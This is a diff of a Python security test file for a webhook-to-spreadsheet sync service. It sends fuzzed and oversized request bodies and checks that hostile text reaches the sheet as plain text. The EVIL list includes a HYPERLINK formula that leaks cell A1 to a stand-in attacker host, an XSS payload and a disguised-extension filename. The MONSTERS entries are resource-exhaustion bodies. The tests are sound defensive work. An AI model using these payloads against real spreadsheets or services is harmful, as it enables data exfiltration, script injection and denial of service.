@@ -1,87 +1,106 @@
-"""Bodies that nobody means well with, all the way: no 5xx, no fault, no long wait, no other job
-held up. `make test` takes FEW of them, `make test-all` the rest of HOSTILE, `make chaos` 100,000;
-those of schemathesis come besides."""
+"""Bodies that nobody means well with, all the way to the sheet: no fault, no long wait, no formula,
+no other job held up. `make test-all` sends HOSTILE of them, `make chaos` more."""
 
 import json
 import os
+import re
 from collections.abc import Callable, Iterator
 from pathlib import Path
-from resource import RUSAGE_SELF, getrusage
-from tempfile import TemporaryDirectory
 from typing import Any
 
-import jsonschema_rs
 import pytest
-import schemathesis
-from flask import Flask
 from hypothesis import HealthCheck, Phase, given, seed, settings
-from schemathesis import Case
-from schemathesis.checks import not_a_server_error
-from schemathesis.specs.openapi.checks import ignored_auth
 
-from app import create_app
-from sync.errors import Rejected
-from sync.settings.config_file import OPENAPI_FILE
-from sync.settings.environment import load
-from sync.store import Database
-from sync.webhooks.parse import read
+from emulator import Emulator
+from sync.core.snapshot import HISTORY, JOBS
 from tests import databases
-from tests.made_up import SECRET, body, comment, document, milestone, task, uuid
-from tests.security.bodies import bodies, spoilt
-from tests.security.whole_path import WholePath
-from tests.settings.test_environment import LEAST
+from tests.core.test_http import is_quiet
+from tests.made_up import body, comment, document, milestone, task, uuid
+from tests.security.bodies import bodies
+from tests.world import World, wait_for
 
-FEW, MORE, MANY = 300, 400, 5000
-HOSTILE = int(os.environ.get("HOSTILE", FEW + MORE))
-ROUNDS = [
-    (0, FEW),
-    *(
-        pytest.param(number, min(MANY, HOSTILE - done), marks=pytest.mark.long)
-        for number, done in enumerate(range(FEW, HOSTILE, MANY), 1)
-    ),
-]
+pytestmark = [pytest.mark.long, pytest.mark.timeout(3600)]
+
+MANY = 2000
+HOSTILE = int(os.environ.get("HOSTILE", "700"))
+ROUNDS = range(0, HOSTILE, MANY)
 """Each draws anew: in one go, what was drawn already would fill the memory."""
 SEED = int(os.environ.get("SEED", "1"))
-_MORE = max(5, HOSTILE // 20)
-"""Cases of schemathesis for each operation, besides."""
-_MEMORY = Path("/dev/shm")  # noqa: S108 - a disk would be what is measured
+ANSWERS = {202, 400, 413, 415, 422}
+BEACON = 999
+"""A job that means no harm."""
+AGE = re.compile(r"=TODAY\(\)-\d+")
+"""The only formula in a job's row."""
 _ANY = settings(
     deadline=None,
     database=None,
     suppress_health_check=list(HealthCheck),
     phases=[Phase.generate, Phase.shrink],
 )
+MIB = 2**20
 
 
-@pytest.fixture(scope="module")
-def path() -> Iterator[WholePath]:
-    with TemporaryDirectory(dir=_MEMORY if _MEMORY.is_dir() else None) as folder:
-        made = WholePath(Path(folder))
+@pytest.fixture
+def world(google: Emulator, tmp_path: Path) -> Iterator[World]:
+    made = World(google, tmp_path, databases.fresh("sqlite", tmp_path))
+    made.environment |= {"MAX_BODY_BYTES": str(16 * MIB), "WORKER": "separate"}
+    with made.serve() as receiver, made.worker():
+        made.kept["receiver"] = receiver.process.pid
         yield made
-        made.start_anew()
-        print(
-            f"\n{made.count} hostile bodies, {made.accepted} of them accepted and laid out; "
-            f"the slowest took {made.slowest:.2f} s; the process held "
-            f"{getrusage(RUSAGE_SELF).ru_maxrss / 1024:.0f} MiB at the most"
-        )
 
 
-@pytest.mark.long
-@pytest.mark.timeout(3600)
-@pytest.mark.parametrize(("number", "count"), ROUNDS)
-def test_no_body_is_a_fault_or_takes_long(path: WholePath, number: int, count: int) -> None:
+def send(world: World, sent: bytes, bound: float) -> float:
+    """Send a body; return the seconds for which the receiver has computed, below `bound`."""
+    before = cpu_seconds(world.kept["receiver"])
+    answer = world.send(sent)
+    took = cpu_seconds(world.kept["receiver"]) - before
+    assert answer.status_code in ANSWERS, answer.text
+    assert "fault" not in answer.text
+    assert took < bound, f"{took:.1f} s"
+    return took
+
+
+def cpu_seconds(pid: int) -> float:
+    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def others_are_shown(world: World) -> None:
+    """A job that means no harm gets its row, and no other one is refused or a formula."""
+    world.send(milestone(BEACON, name="Permits"))
+    wait_for(lambda: uuid(BEACON) in world.by_site(), 90)
+    wait_for(lambda: is_quiet(world), 90)
+    assert not world.codes() & {"refused", "failing", "fault"}
+    assert {formula for formula in formulas(world) if not AGE.fullmatch(formula)} == set()
+    log = world.log.read_text()
+    for event in ('"fault"', "Traceback", '"refused"', '"pass_failed"'):
+        assert event not in log, event
+
+
+def formulas(world: World) -> Iterator[str]:
+    for number in (JOBS, HISTORY):
+        tab = world.google.sheets.spreadsheets[world.spreadsheet].sheet(number)
+        assert tab is not None
+        for row in tab.rows:
+            for cell in row.cells.values():
+                if isinstance(cell.value, dict) and "formulaValue" in cell.value:
+                    yield cell.value["formulaValue"]
+
+
+@pytest.mark.parametrize("first", ROUNDS)
+def test_no_body_is_a_fault_or_takes_long(world: World, first: int) -> None:
     """The same bodies in every run of the same SEED."""
 
-    @seed(1000 * SEED + number)
-    @settings(_ANY, max_examples=count)
+    @seed(1000 * SEED + first)
+    @settings(_ANY, max_examples=min(MANY, HOSTILE - first))
     @given(sent=bodies())
     def hold(sent: bytes) -> None:
-        path.send(sent)
+        send(world, sent, bound=5)
 
     hold()
+    others_are_shown(world)
 
 
-MIB = 2**20
 LARGE = 10 * MIB if "HOSTILE" in os.environ else 2 * MIB
 
 
@@ -89,31 +108,25 @@ def _many(make: Callable[[int], dict[str, object]], count: int) -> list[dict[str
     return [make(number) for number in range(count)]
 
 
-def _wide(count: int) -> bytes:
-    return json.dumps(milestone() | {f"key {n}": n for n in range(count)}).encode()
-
-
+BACKTRACKERS = ("re", "re-sig", "sighten everbright", "00000000-0000-", "-1e", "<!---->", "\\'")
 MONSTERS: dict[str, Callable[[], bytes]] = {
     "5,000 documents": lambda: body(
-        milestone(tasks=[task(*_many(lambda n: document(n, f"{n}.pdf"), 5000))])
-    ),
-    "5,000 documents with long names": lambda: body(
         milestone(tasks=[task(*_many(lambda n: document(n, f"{n} " + "=A1 " * 90), 5000))])
     ),
-    "5,000 tasks": lambda: body(milestone(tasks=_many(lambda n: task(document(n)), 5000))),
+    "5,000 tasks": lambda: body(milestone(2, tasks=_many(lambda n: task(document(n)), 5000))),
     "20,000 comments": lambda: body(
-        milestone(comments=_many(lambda n: comment(f"Hi {n}", "2026-03-01T10:00:00Z"), 20_000))
+        milestone(3, comments=_many(lambda n: comment(f"Hi {n}", "2026-03-01T10:00:00Z"), 20_000))
     ),
-    "a name of 10 MB": lambda: body(milestone(name="=" * 10 * MIB)),
+    "a name of 10 MB": lambda: body(milestone(4, name="=" * 10 * MIB)),
     "much of emoji": lambda: json.dumps(
-        milestone(name="\U0001f600" * (LARGE // 4)), ensure_ascii=False
+        milestone(5, name="\U0001f600" * (LARGE // 4)), ensure_ascii=False
     ).encode(),
-    "much of escapes": lambda: body(milestone(name="\x00\ud800" * (LARGE // 12))),
+    "much of escapes": lambda: body(milestone(6, name="\x00\ud800" * (LARGE // 12))),
     "much of backslashes": lambda: b'{"a": "' + b"\\\\" * (LARGE // 2) + b'"}',
-    "much in a literal": lambda: repr(milestone(name="'\"\\" * (LARGE // 5))).encode(),
+    "much in a literal": lambda: repr(milestone(7, name="'\"\\" * (LARGE // 5))).encode(),
     "a literal of small things": lambda: b"[" + b"None, " * (LARGE // 6) + b"]",
-    "many keys": lambda: _wide(LARGE // 100),
-    "a key of much": lambda: body(milestone() | {"k" * LARGE: 1}),
+    "many keys": lambda: body(milestone(8) | {f"key {n}": n for n in range(LARGE // 100)}),
+    "a key of much": lambda: body(milestone(9) | {"k" * LARGE: 1}),
     "numbers without end": lambda: b"[" + b",".join([b"9" * 4300] * 200) + b"]",
     "a number of much": lambda: b"9" * LARGE,
     "many lists": lambda: b"[" + b"[]," * (LARGE // 8) + b"[]]",
@@ -121,114 +134,50 @@ MONSTERS: dict[str, Callable[[], bytes]] = {
     "many quotes": lambda: b'"' * LARGE,
     "many apostrophes": lambda: b"'" * LARGE,
     "white space": lambda: b" " * LARGE,
+    "what patterns look for, again and again": lambda: body(
+        milestone(11, tasks=[task(name=text * 20_000) for text in BACKTRACKERS])
+        | {"comments": [comment(text * 20_000, "2026-03-01T10:00:00Z") for text in BACKTRACKERS]}
+    ),
 }
 
 
-@pytest.fixture(scope="module")
-def wide_path() -> Iterator[WholePath]:
-    with TemporaryDirectory(dir=_MEMORY if _MEMORY.is_dir() else None) as folder:
-        yield WholePath(Path(folder), MAX_BODY_BYTES=str(64 * MIB))
-
-
-@pytest.mark.long
-@pytest.mark.parametrize("name", list(MONSTERS))
-def test_no_monster_takes_long(wide_path: WholePath, name: str) -> None:
-    sent = MONSTERS[name]()
-    wide_path.send(sent, bound=10)
-    wide_path.start_anew()
-
-
-def test_a_body_of_ten_million_bytes_is_not_even_read_by_default(path: WholePath) -> None:
-    """Catches a limit that is looked at after the body was parsed."""
-    assert path.send(b"[" + b"0," * 5 * MIB + b"0]", bound=1) == 413
-
-
-@pytest.mark.long
-def test_many_definitions_in_one_job_delay_no_other(wide_path: WholePath) -> None:
+def test_no_monster_takes_long(world: World) -> None:
+    for name, make in MONSTERS.items():
+        print(f"{name}: {send(world, make(), bound=10):.1f} s")
     for number in range(60):
-        wide_path.send(body(milestone(1, number, site=uuid(7))))
-    wide_path.start_anew()
+        send(world, body(milestone(10, number)), bound=5)
+    others_are_shown(world)
 
 
-@pytest.fixture(scope="module")
-def receiver() -> Iterator[Flask]:
-    with TemporaryDirectory(dir=_MEMORY if _MEMORY.is_dir() else None) as folder:
-        loaded = load(
-            LEAST
-            | {
-                "DATABASE_URL": databases.fresh("sqlite", Path(folder)),
-                "ADMIN_PASSWORD": "made up, too",
-            }
-        )
-        Database(loaded.database_url.get_secret_value()).upgrade()
-        yield create_app(loaded)
-
-
-@pytest.fixture(scope="module")
-def api(receiver: Flask) -> schemathesis.BaseSchema:
-    return schemathesis.openapi.from_wsgi("/openapi.json", receiver)
-
-
-_ALIKE = pytest.mark.long
-"""Of the webhook's three methods, which one function answers, `make test` tries POST alone."""
-_OPERATIONS = [
-    pytest.param(path, method, marks=_ALIKE if method in ("put", "patch") else ())
-    for path, methods in json.loads(OPENAPI_FILE.read_text("utf-8"))["paths"].items()
-    for method in methods
+EVIL = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
+    '<script>alert(1)</script><img src=x onerror="alert(1)">',
+    "\u202egpj.exe\u202c\U0001f469\u200d\U0001f680",
+    "+1+1",
+    "@SUM(A1)",
+    "'=1",
 ]
-_MAY_BE_503 = {"/status"}
-"""It says that no worker runs, as is so here; what it answers is held all the same."""
 
 
-@pytest.mark.timeout(3600)
-@pytest.mark.parametrize(("address", "method"), _OPERATIONS)
-def test_answers_are_as_documented(api: schemathesis.BaseSchema, address: str, method: str) -> None:
-    count = 0
-
-    @seed(SEED)
-    @settings(_ANY, max_examples=_MORE)
-    @given(case=api[address][method].as_strategy())
-    def hold(case: Case[Any]) -> None:
-        nonlocal count
-        count += 1
-        answer = case.call(headers={"X-Webhook-Secret": SECRET})
-        assert answer.status_code < 500 or address in _MAY_BE_503
-        excluded = [ignored_auth, *([not_a_server_error] if address in _MAY_BE_503 else [])]
-        case.validate_response(answer, excluded_checks=excluded)
-
-    hold()
-    print(f"{count} cases for {method.upper()} {address}")
-
-
-def test_the_receiver_accepts_what_the_document_allows() -> None:
-    """The receiver's leniency is described in the document."""
-    document = json.loads(OPENAPI_FILE.read_text("utf-8"))
-    content = document["components"]["requestBodies"]["Webhook"]["content"]["application/json"]
-    schema = jsonschema_rs.Draft202012Validator(
-        content["schema"] | {"components": document["components"]}, validate_formats=True
+def hostile(job: int, evil: str) -> dict[str, Any]:
+    """Return a milestone that says `evil` wherever somebody may write."""
+    return milestone(
+        job,
+        job + 2,
+        name=evil,
+        status=evil,
+        comments=[comment(evil, "2026-03-01T10:00:00Z", "ada@installer.example")],
+        tasks=[task(document(job, evil), name=evil)],
     )
-    allowed, refused, lenient = 0, 0, 0
 
-    @seed(SEED)
-    @settings(_ANY, max_examples=FEW)
-    @given(tree=spoilt())
-    def hold(tree: dict[str, Any]) -> None:
-        nonlocal allowed, refused, lenient
-        try:
-            sent = json.dumps(tree, allow_nan=False).encode()
-            fits = schema.is_valid(tree)
-        except ValueError:
-            return  # Not JSON: a number that is none, a lone surrogate.
-        try:
-            read(sent)
-        except Rejected as error:
-            assert not fits, (error.message, tree)
-            refused += 1
-        else:
-            allowed += fits
-            lenient += not fits
 
-    hold()
-    assert allowed > FEW / 3
-    assert refused > FEW / 30
-    assert lenient < FEW / 3  # An optional field of another type is left out.
+def test_text_is_shown_as_it_was_sent(world: World) -> None:
+    for job, evil in enumerate(EVIL):
+        assert world.send(hostile(job, evil)).status_code == 202
+    others_are_shown(world)
+    rows = world.by_site()
+    for job, evil in enumerate(EVIL):
+        row = rows[uuid(job)]
+        assert evil in row["Last comment"].text
+        assert row["Status"].text.startswith(evil[:10])
+        assert evil in row[f"{evil} documents"].text
